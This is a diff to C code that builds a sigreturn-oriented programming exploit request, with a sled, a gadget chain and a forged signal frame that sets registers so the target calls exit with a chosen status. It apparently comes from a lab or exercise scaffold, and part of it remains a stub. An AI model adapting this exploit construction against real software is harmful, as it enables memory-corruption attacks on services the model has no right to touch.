@@ -21,7 +21,8 @@
  *				so rax = 15, rt_sigreturn's number; then its pops
  *	pops x filler
  *	syscall			rt_sigreturn: the registers come from the frame below
- *	struct ucontext64	rip = syscall, rax = exit, rdi = CHOSEN_STATUS
+ *	struct ucontext64	rip = syscall, rax = exit, rdi = CHOSEN_STATUS,
+ *				cs and ss as 64-bit user code has them
  *	(end of body) 15 bytes
  *
  * Its addresses come from g only: they differ between builds, and the
@@ -95,6 +96,8 @@ size_t build_srop_exit(unsigned char *req, size_t size, const struct gadgets *g)
 	uc.mc.rax = NR_EXIT;
 	uc.mc.rdi = CHOSEN_STATUS;
 	uc.mc.rsp = 0x10000;		/* any canonical value: exit does not return */
+	uc.mc.cs = FRAME_CS;
+	uc.mc.ss = FRAME_SS;
 	memcpy(p, &uc, sizeof(uc));
 	p += sizeof(uc);
 	body = p - (req + 4);
@@ -134,7 +137,8 @@ size_t build_srop_exit(unsigned char *req, size_t size, const struct gadgets *g)
 	say_todo();
 	// The request laid out as the comment at the top says: the 4-byte
 	// body length, the body (the sled, the chain, a filler word
-	// per pop, a struct ucontext64 with the registers exit needs), then
+	// per pop, a struct ucontext64 with the registers exit needs and
+	// 64-bit code's cs and ss), then
 	// NR_RT_SIGRETURN bytes for the chain's own read. Return the request's
 	// length, 0 if it does not fit in size.
 	(void)req, (void)size, (void)g;
